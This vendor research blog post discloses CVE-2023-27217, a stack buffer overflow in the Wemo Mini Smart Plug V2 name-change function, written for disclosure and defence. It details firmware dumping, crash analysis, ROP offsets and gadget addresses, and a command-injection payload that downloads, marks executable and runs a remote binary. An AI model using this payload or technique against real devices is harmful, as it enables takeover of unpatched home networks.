‘FriendlyName’ Buffer Overflow Vulnerability in Wemo Smart Plug V2

13  min read | 16/05/2023

Amit Serper
Amit Serper
Reuven Yakar
Reuven Yakar

Part of our work at Sternum includes constant security research of IoT vulnerabilities to betterunderstand IoT security gaps, boost the security capabilities of our platform and help device manufacturers improve their security postures.

In this post, we wanted to provide a behind-the-scenes look at our work and talk about our latest discovery—a buffer overflow vulnerability (CVE-2023-27217) in a Wemo Mini Smart Plug V2 (model F7C063) device.

Below, we will share the story of how we were able to reverse-engineer the device, gain firmware access, and leverage it to discover the security flaw.

Furthermore, we will demonstrate how this vulnerability could be exploited for remote command execution and offer some suggestions for security best practices that could have prevented the issue.This will be a long post so as a public service, here are key points:

  • Wemo Mini Smart Plug V2 is a popular consumer device that helps users remote-control electric devices.
  • The device is managed by a mobile application that allows its user to change the device name (a.k.a. ‘FriendlyName’).
  • The name length is limited to 30 characters or less, but this rule is only enforced by the app itself.
  • Through reverse engineering, we saw that circumventing the character limit resulted in a buffer overflow.
  • Through experimentation, we learned that we could obtain a measure of control and predictability over how the overflow occurred.
  • Leveraging these findings, we were able to demonstrate how the vulnerability can be used for command injection.
  • We reached out to Belkin (the device manufacturer) with our findings. However, the company informed us that the device is at the end of its life and will not be patched.Meanwhile, it’s safe to assume that many of these devices are still deployed in the wild.
  • Following the company’s response, we reached out to MITRE and informed them of the vulnerability, leading to them issuing CVE-2023-27217.
  • We recommend that device users will take some precautions, specifically limiting the device’s exposure to the Internet and internal/sensitive networks.

Wemo Mini Smart Plug: Simple and Popular

The “star of the show” is a Wemo Mini Smart Plug, a simple and compact device built to provide remotecontrol over lights and simple appliances (e.g., fan lamps) via a mobile app. The app uses Wi-Fi for communication and integrates with Alexa, Google Assistant, and Apple Home Kit while offering some additional features—for instance, ascheduling option.

wemo smart plug v2

Wemo Mini Smart Plug (Source: Amazon)

Our initial interest in the device came from having several of these lying around our lab and used at our homes, so we just wanted to see how safe (or not) they were to use.

It should be mentioned that, in general, this appears to be a pretty popular consumer device, judging by the 17K reviews and the 4-star rating it has on Amazon and other resources (e.g., this 4-star rating from TomsGuide). Based on these numbers, it’s safe to estimate that the total sales on Amazon alone should be in the hundreds of thousands.

Gaining Firmware Access

As we set out, our first step was to gain access to the device firmware, which required a bit of tinkering. We decided to document it in detail to give a glimpse into our work process.

Popping up the plastic case, we saw that the Smart Plug consisted of two boards: (1) the ‘high voltage’ board that connects to the power outlet and (2) the ‘low voltage’ board that contains the SoC, test headers, Wifi modules, etc.


Based on information available online, we knew that the previous version of the Smart Plug was running OpenWRT—a Linux distribution for embedded devices commonly used for routers—so we expected to find the same here as well.

Looking at the smaller board, we could see the MediaTek SoC and the Winbond 512MB DRAM chips, shown in the image below. The MediaTek MT7688AN features a 580Mhz MIPS24KEc CPU and a 2.4 GHz WIFI connectivity, which would allow the device to run a Linux-based OS.


On the other side of the board, we found the MXICMX25L12835F chip, a 128MB serial flash EEPROM that held the firmware. Exactly what we were looking for!


To extract the firmware from the device, we used asimple 8-pin SOIC test clip, attaching it directly to the EEPROM, and then used a device programmer to extract the firmware, as seen below.


Once the firmware was successfully dumped, passing it through Binwalk revealed that the device was indeed running OpenWRT Linux with kernel version 3.18.27:

0             0x0             uImage header, headersize: 64 bytes, header CRC: 0x73B5928B, created: 2022-12-08 13:49:43, image size: 1255269 bytes, Data Address: 0x80000000, Entry Point: 0x80000000, data CRC: 0x98F10FFF, OS: Linux, CPU: MIPS, image type: OS Kernel Image, compression type: lzma, image name: "MIPS OpenWrt Linux-3.18.27"
64            0x40            LZMA compressed data, properties: 0x6D, dictionary size: 8388608 bytes, uncompressed size: 3740700 bytes
1572864       0x180000        Squashfs filesystem, little endian, version 4.0, compression:xz, size: 3607690 bytes, 672 inodes, blocksize: 262144 bytes, created: 2022-12-08 13:49:40

A quick look at the binary blob’s strings revealed the first interesting piece of information, which was the UART (UniversalAsynchronous Receiver/Transmitter) configuration:


With these details, we had the gist of what was needed to gain ‘keyboard and screen’ access to the device. However, we could not find any documentation of any UART and JTAG pinouts anywhere online, so we had to figure these out ourselves.

Going over the various test headers on the device as it was booting eventually revealed the proper pinout of the UART connection, like so:


Once we connected successfully to the UART (Universal AsynchronousReceiver/Transmitter) interface, we were greetedwith an OpenWRT login prompt. Unfortunately, the password for the root password was unknown to us and not published anywhere online.

We tried running John the Ripper on the hash to brute-force our way in, but this didn’t yield any results within a reasonable amount of time. However, since we had ‘keyboard and screen’ access to the device through the UART port, we could boot it into recovery mode (a.k.a. “single user” mode) and change the root password from there, thus gaining root access to a running system.


With access to the system, we could see the programs running on thedevice, how they work, which ports are open, and most importantly, set the password of the root user. This enabled us to gain SSH access to the device, which in turn allowed us to upload various tools to the device, such as GDB and gdbserver for debugging purposes.

Using the ps command to see which processes were running, one immediately caught our eye: wemoApp, created by Belkin.


The “FriendlyName” Vulnerability

Having already been using the application, we knew that one of its options was to define a name for the device. Here we can see “Wemo mini 6E9,” which was the default name of the device as it came out of the box.


This option for user input already had our Spidey senses tingling, especially when we saw that changing the name in the app came with some guardrails.For us, this immediately raised two questions: “Says who?” and “What happens if we manage to make it more than 30 characters?”

To answer both, we decided to try and connect to a device via an alternative method, using pyWeMo, a community-built Python module for the discovery and control of WeMo devices, using the UPnP (Universal Plug and Play) protocol.

With pyWeMo, we tried to change the device name to something longer than 30 characters and were successful. This answered our first question, showing that the restriction was only enforced by the app itself and not by the firmware code.

Strike one! Input validation like this should not be managed just on the “surface” level.

At this point, we also learned about the variable that held the device name—the so-called ‘FriendlyName’—which you can see in the image below:


The answer to our second question came quickly after. Running some experiments, we found out that all names longer than 68 bytes (and shorter than about 300 bytes) would cause a SIGSEGV crash, sending the device into a “boot loop”, as shown in the screenshot from UART below.


Further analysis revealed that the ‘FriendlyName’ variable was handled by the wemo_ctrl and wemoAppprocesses. And, in almost all cases, the segmentation faults were in heap-related functions: malloc(), free(), realloc(), etc.

In an attempt to learn more about the impact that this had on the memory structure, we started to use names with repeated character “chunks,” for instance:


Tracking these chunks in memory, we saw the ‘FriendlyName’ being trimmed to different sizes. In one instance, we got to the offset of 804 bytes after malloc() in libc (actually libuClibc- and there we saw this entry:

lw $t0, 0xC($a3)And here it was… “$a3”, which equals 0x66656463 or “cdef” in little-endian—letters 3 to 6 of our illegally long ‘FriendlyName.’

Strike two! What this proved is that the metadata of the heap was getting corrupted, and the corrupted values are being used in subsequent heap operations. But we still couldn’t tell the exact place in which the corruption and if (and how) it could be leveraged by a bad actor.

Pinpointing the Breaking Point

As we continued to analyze the crashes, we noticed that in one attempt, the control flow pivoted to the heap, resulting in an illegal instruction. We also saw that the heap was executable (because of course it was…).

Moreover, on another occasion, we also saw an incident of $pc (Extended Instruction Pointer) control from an overflow.Heap memory with rwxp (read, write & execute) permissions

To keep track of these and other results, we developed a gdb script that printed all the internal states of the heap.The idea was to pinpoint the bug that causes the heap corruption with a process similar to a binary search. We would set a breakpoint in a location we suspected to be relevant. When that breakpoint would hit, we observed the state of the heap for signs of corruption. If we find any, we would know that the corruption happened before our breakpoint. Otherwise, we looked forward.

For example, the image below shows a corruption of the metadata with bytes from the illegal ‘FriendlyName’. Note the values in the lastmchunk, with the next pointer spelling “cdef” (0x66656463), prev spelling “ghij” (0x6a696867), etc.


Another thing we noticed was that,because of ASLR (Address Space Layout Randomization), the library was loading at a different location after every crash, which interfered with our testing. To deal with the situation, we temporarily disabled ASLR using:

`# echo 0 > /proc/sys/kernel/randomize_va_space`

As soon as we did, the SIGSEGV crashes of the heap stopped. Instead, when we passed an 80-character long ‘FriendlyName’ using name[:80] as shown below, we got a crash in the memory stack.


The crash occurred at the 0x6e6d6c6b address—“klmn” in little-endian, characters [76: 80] of our ‘FriendlyName’. Meaning we have achieved some predictability and measure of control over the program flow.


This crash was a result of an unsafe call to strcpy() function from a buffer containing our ‘FriendlyName’ into thewemoStateUpdate() function in wemo_ctrl executable. The stack buffer size of 0x44 (68 in decimal) was why names longer than 68 characters would cause a crash.


Immediately after the buffer, we could see the $s0 register at an offset of [68:72], followed by the frame pointer $fp at an offset of [72:76], and then the return address $ra at anoffset of [76:80].


As established above, the $pc was pointing to $ra (“klnm”) and there was no stack canary. Strike three.

It should be noted that the destination of the strcpy() function is not at the beginning of the FriendlyName buffer, but 4 bytes after the beginning of this buffer due to this opcode:

0x407530: addiu $v1, 4

This is why there were 0x44 bytes before the overflow onto the saved registers and not 0x48.

The Exploit: Using ‘FriendlyName’ for Remote Command Injection

After proving that we could cause a buffer overflow and control the resulting memory re-allocation, our next step was to see if we could exploit the vulnerability.

For that, we focused our efforts on the wemo_ctrl executable because it was consistently loaded in the same address, even with ASLR turned on, unlike other libraries.

Our approach was to use a binary exploitation technique called ROP chains. The idea was that repeated attack attempts—even with ASLR being on—would lead to some instances in which we could cause a stack overflow without the heap corruption, crashing the process first.The fact that wemo_ctrl automatically restarted after every crash supported this approach, allowing us to keep trying again and again. The only downside was a ~10-second long period after the crash during which the UPnP interface was not responsive, which translated into a short delay between each of the “attack” attempts. However, this crash would be completely unnoticeable to the user in a real-world attack scenario.

Still, we had to deal with some limitations:

  1. The first issue is that the wemo_ctrl loading address is in the low range of 0x00400000 to 0x00413000. Since we had to rely on the strcpy() for payload delivery, we were limited by the null terminator for the exploit. This meant that the null terminator had to be the most significant byte (MSB) of the return address at the end of our payload. As a result, we can only use one ROP gadget on the current stack, and the whole payload has to be 80 bytes or less.
  2. The second issue relates to the characters we can use in the payload. This is due to the limitations enforced by the UPnP library and the XML parser that our input goes through before reaching wemoStateUpdate. For example, we found that all bytes from 0x80 and above are not accepted, as well as somespecial characters like &or <. For our purposes, we had to treat this as some sort of unintended/partial input sanitization.
  3. Finally, we had to call the single chain with very limited control of registers— only $s0, $fp, or $ra. We still didn’t know where exactly our stack was because the overflow happened on a new secondary thread created to handle ChangeFriendlyName UPnP calls. In other words, even with ASLR disabled, there appear to be about 8-16 different possible $sp values we could encounter. We noticed in practice they were always some small multiple of 0x200000 apart from each other.

With the above in mind, we crafted the following payload and used it to make a call to system(), in wemo_ctrl, in a function we named delete_dir():

;wget;chmod +x r;./r 4444# XK6w|I6wh:@

Our goal was to reach the call to system in address 0x403A90, with control over $a0 or $v0, which both had NULL values when returned from wemoStateUpdate.However, considering the 80-character limit, we could only jump as high as the 0x403A7C address. So we have to call the snprintf() first. Then, leaving $a0 as NULL is still a problem because then snprintf() would crash with a SEGFAULT, since the function’s first argument is the destination buffer. That means that instead, we have to return to an even earlier address: 0x403A68, highlighted in the image above. That’s the latest location for us to gain control of $a0.

There, conveniently for us, we noted that the format string of the snprintf() enabled a command injection (note the rm -rf %s at the 0x403A78 address in the image above).

The plan was to exploit this command injection by pointing the $a0 register to the ‘FriendlyName’ payload as the snprintf() function was called. So while the payload started with the injection itself (wget…) the rest of it was meant to shape the registers in a way that would cause this sequence to occur, like so:• $a3 would contain the address of our FriendlyName. As shown in the image above, at 0x403A7C, it got the address from $fp, with the offset of 0x220.
  • $s0 would be set by the payload to the stack address at the beginning of the FriendlyName. The fact that it would be saved to the $s0 register is a non-important byproduct. The important part here is that the address would be stored in some location on the stack so that we can load it from there into $a3 at 0x403A7C.
  • $fp will be modified and set to 0x220 less than the stack address in $s0, to compensate for offset in 0x403A7C.
  • $ra would also be modified to 0x403A68, to run the injection (the h:@ at the tail end of the payload).

The screenshots below show how this all comes together:


Or alternatively…It should be noted that the values in $fp and $s0 represent our guesstimate of the stack address for the FriendlyName and in the screenshot above, we guessed wrong. However, getting to the actual address (with ASLR turned off) would require a very minimal measure of trial-and-error due to the very limited (8 to 16) number of options.

Even with ALSR on, however, we believe that it would be possible to brute-force our way to the correct address and exploit the vulnerability, especially since the only side effect of a wrong guess would be a very brief and transparent crash.

Disclosure Timeline and Security Advisory

  • On January 9th, 2023, we disclosed the vulnerability to Belkin via Bugcrowd.
  • On February 22nd, Belkin replied that the device is at the end of its life and, as a result, the vulnerability will not be addressed.
  • Following some additional back-and-forth on March 14, we informed MITREof the vulnerability, leading to them issuing CVE-2023-27217.

Since there will be no patch to address this issue, we recommend the following:

  1. Avoid exposing the Wemo Smart Plug V2 UPNP ports to the internet, either directly or via port forwarding.
  2. If you are using the Smart Plug V2 in a sensitive network, you should ensure that it is properly segmented, and that device cannot communicate withother sensitive devices on the same subnet.

Note: While this wasn’t in the scope of our research, from what we have gathered, it appears that this vulnerability could be triggered via the Cloud interface (meaning, without a direct connection to the device).

This further highlights the need for the abovementioned steps, as the Wemo Cloud infrastructure could be used as a potential attack vector.


Enter data to download case studyBy submitting this form, you agreeto our Privacy Policy.